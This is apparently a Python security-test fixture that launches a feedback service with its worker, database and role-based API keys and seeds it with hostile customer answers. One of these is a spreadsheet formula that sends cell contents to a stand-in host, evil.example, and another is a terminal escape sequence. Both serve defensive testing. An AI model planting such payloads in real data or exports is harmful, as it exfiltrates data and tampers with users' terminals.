"""A service to attack: web on gunicorn, a worker, X in a process of its own, keys of every role, some answers.

Offers a client for strangers, the keys, the database from outside, and the logs.
"""

import json
import re
import time
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import httpx
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from service.at_rest.columns import encrypting, with_keys
from service.db import open_engine, writing
from service.models import feedback_request, result
from tests.processes import deliveries
from tests.processes.children import Child, cli, run_cli, until
from tests.processes.databases import open_database
from tests.processes.site import Site
from tests.processes.x import running_x

ROLES = ("admin", "supervisor", "analyst", "monitor", "hand_in")
KEY = "a key of the trial, that nobody would guess"
WORDS = "zebrafinch said something private"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
ESCAPE = "\x1b]0;owned\x07"
ASKED = 6
WITHIN_S = 120
BUSY = 503


@dataclass
class Place:
    """What an attacker, and whoever watches him, has at hand."""

    kind: str
    site: Site
    http: httpx.Client
    engine: Engine
    keys: Mapping[str, str]
    web: Child
    logs: tuple[Path, ...]

    def get(self, path: str, key: str | None = None, **headers: str) -> httpx.Response:
        """Ask, and again where all slots of reading are taken."""
        sent = {**headers, **({"Authorization": f"Bearer {key}"} if key else {})}
        answer = self.http.get(path, headers=sent)
        for _ in range(20):
            if answer.status_code != BUSY:
                break
            time.sleep(0.5)
            answer = self.http.get(path, headers=sent)
        return answer

    def says(self, *words: str, code: int = 0) -> str:
        """What the command line says."""
        done = run_cli("--config", str(self.site.config), *words)
        assert done.returncode == code, (words, done.returncode, done.stdout + done.stderr)
        return done.stdout + done.stderr

    def key(self, *words: str) -> str:
        """A new key."""
        found = re.search(r"dmf_\w+\.[\w-]+", self.says("keys", "create", "--name", "trial", *words))
        assert found is not None
        return found.group()

    def run(self, statement: str, **values: object) -> None:
        """Past the service, as whoever owns the database."""
        with writing(self.engine) as connection:
            assert connection.execute(sa.text(statement), values).rowcount > 0, statement

    def number(self, statement: str) -> int:
        with self.engine.connect() as connection:
            return int(connection.exec_driver_sql(statement).scalar() or 0)


@contextmanager
def opened(kind: str, directory: Path) -> Iterator[Place]:
    """Start everything, let some be asked and answer, and hand it over."""
    with ExitStack() as stack:
        database = open_database(kind, directory)
        stack.callback(database.close)
        changes = {"privacy__encryption_key": [KEY], "web__workers": 2, "campaigns__care__delay": "0s"}
        site = Site(directory, database.url, scale=150, changes=changes).write()
        x = stack.enter_context(running_x(site))
        web = stack.enter_context(cli("web", directory, "--config", str(site.config), "web"))
        worker = stack.enter_context(cli("worker", directory, "--config", str(site.config), "worker"))
        http = stack.enter_context(httpx.Client(base_url=site.web_url, timeout=30, trust_env=False))
        until(lambda: _answers(http), WITHIN_S, "web answers")
        assert all(deliveries.deliver(site, f"zebrafinch-{number}") == 200 for number in range(ASKED))
        until(lambda: x.sent("card") == ASKED, WITHIN_S, "everybody is asked")
        engine = with_keys(open_engine(database.url), [KEY])
        stack.callback(engine.dispose)
        place = Place(kind, site, http, engine, {}, web, (web.log, worker.log))
        _answer(engine)
        place.keys = {role: place.key("--role", role) for role in ROLES}
        yield place


def _answers(http: httpx.Client) -> bool:
    try:
        return http.get("/healthz").status_code == 200
    except httpx.HTTPError:
        return False


def _answer(engine: Engine) -> None:
    """What customers said: words, a formula, an escape sequence."""
    now = datetime.now(UTC)
    with writing(engine) as connection:
        ids = connection.scalars(sa.select(feedback_request.c.id).order_by(feedback_request.c.id)).all()
        for number, request_id in enumerate(ids):
            text = (WORDS, FORMULA, f"{ESCAPE} {WORDS}")[number % 3]
            row = {"request_id": request_id, "score": 4, "score_at": now, "text": text, "text_at": now}
            seen = {"x_updated_at": now, "first_seen_at": now, "score_seen_at": now, "text_seen_at": now}
            rest = {"first_channel": "webhook", "update_count": 1, "anomalies": 0, "updated_at": now}
            connection.execute(sa.insert(result).values(encrypting(result, {**row, **seen, **rest}, request_id)))


def told(place: Place, name: str, **changes: str) -> tuple[bytes, dict[str, str]]:
    """A delivery, signed; not sent yet."""
    data = {"conversation_id": name, "x_user_id": "4711", **changes}
    event = {"type": "conversation.ended", "timestamp": datetime.now(UTC).isoformat(), "data": data}
    body = json.dumps(event).encode()
    return body, deliveries.signed(f"m-{name}", body)
